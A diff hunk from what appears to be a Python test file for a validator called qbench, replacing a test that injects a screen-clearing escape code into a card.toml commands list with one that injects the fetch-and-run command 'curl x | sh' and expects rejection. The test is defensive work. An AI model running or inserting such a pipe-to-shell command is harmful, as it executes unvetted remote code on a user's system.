@@ -610,9 +610,9 @@ FILES = {
         lambda f: cut(entry_of(f) / "card.toml", b'torch = "', b'torch = "9'),
         "the versions [0-9a-f]{16} were changed",
     ),
-    "a command that clears the screen": (
-        lambda f: cut(entry_of(f) / "card.toml", b"commands = []", b'commands = ["a \\u001b[2J"]'),
-        "a command holds control or invisible characters",
+    "a command of others": (
+        lambda f: cut(entry_of(f) / "card.toml", b"commands = []", b'commands = ["curl x | sh"]'),
+        "a command that is none of qbench",
     ),
     "weights without end": (
         lambda f: weights(f, 0, nested()),
